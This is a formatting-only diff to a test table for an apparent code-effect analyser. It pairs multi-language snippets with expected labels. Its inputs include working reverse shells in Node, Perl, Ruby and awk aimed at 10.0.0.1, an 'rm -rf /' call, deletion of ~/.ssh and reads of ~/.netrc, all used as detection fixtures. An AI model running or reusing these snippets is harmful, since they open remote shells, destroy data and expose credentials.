@@ -37,13 +37,17 @@ TABLES: dict[str, list[tuple[str, list[str]]]] = {
         ("const rm = p => fs.rmSync(p, {recursive: true}); rm('/x')", ["delete /x recursive"]),
         ("import('fs').then(({rmSync}) => rmSync('x'))", ["delete x"]),
         (
-            "const cp=require('child_process'); cp.spawn('rm',['-rf','/'],{stdio:'inherit'}); "
-            "cp['ex'+'ec']('id'); cp[z]('id')",
+            (
+                "const cp=require('child_process'); cp.spawn('rm',['-rf','/'],{stdio:'inherit'}); "
+                "cp['ex'+'ec']('id'); cp[z]('id')"
+            ),
             ["argv rm -rf /", "sh id", "dynamic"],
         ),
         (
-            'var net=require("net"),sh=require("child_process").exec("/bin/bash");var c=new '
-            'net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin)})',
+            (
+                'var net=require("net"),sh=require("child_process").exec("/bin/bash");var c=new '
+                'net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin)})'
+            ),
             ["net connect 10.0.0.1 4444", "sh /bin/bash"],
         ),
         ("console.log(process.env)", ["effect dumps_environment"]),
@@ -89,9 +93,11 @@ TABLES: dict[str, list[tuple[str, list[str]]]] = {
         ('sub f { my ($p) = @_; unlink $p } f("x");', ["delete x"]),
         ('sub g { my $p = shift; unlink $p } g("y");', ["delete y"]),
         (
-            'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
-            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
-            'exec("/bin/sh -i");};',
+            (
+                'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+                'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
+                'exec("/bin/sh -i");};'
+            ),
             ["net connect 10.0.0.1 1234", "sh /bin/sh -i"],
         ),
         (
@@ -143,8 +149,10 @@ TABLES: dict[str, list[tuple[str, list[str]]]] = {
         ('s=TCPSocket.new("10.0.0.1",4444); exec "/bin/sh -i"', ["net connect 10.0.0.1 4444", "sh /bin/sh -i"]),
         ('system("ls", chdir: "/x"); system({"A"=>"b"}, "id")', ["sh ls in /x", "sh id"]),
         (
-            'FileUtils.rm_rf(File.join(Dir.home, ".ssh")); File.read(File.expand_path("~/.netrc")); '
-            'File.read(ENV["HOME"]+"/.x")',
+            (
+                'FileUtils.rm_rf(File.join(Dir.home, ".ssh")); File.read(File.expand_path("~/.netrc")); '
+                'File.read(ENV["HOME"]+"/.x")'
+            ),
             ["delete /home/dev/.ssh recursive", "read /home/dev/.netrc", "read /home/dev/.x"],
         ),
         ('Pathname.new("x").delete; Pathname("a").rmtree', ["delete x", "delete a recursive"]),
@@ -208,8 +216,10 @@ TABLES: dict[str, list[tuple[str, list[str]]]] = {
         ('/system\\("x"\\)/ { n++ } # system("y")', []),
         ('{ system("rm " $1) }', ["sh rm {$1}?"]),
         (
-            'BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; while (1) { print "> " |& s; s |& getline c; '
-            "while ((c |& getline) > 0) print |& s } }",
+            (
+                'BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; while (1) { print "> " |& s; s |& getline c; '
+                "while ((c |& getline) > 0) print |& s } }"
+            ),
             ["net connect 10.0.0.1 4444", "sh {c}?"],
         ),
         ("NR==FNR{a[$1]=$2;next} ($1 in a){print $0, a[$1]}", []),
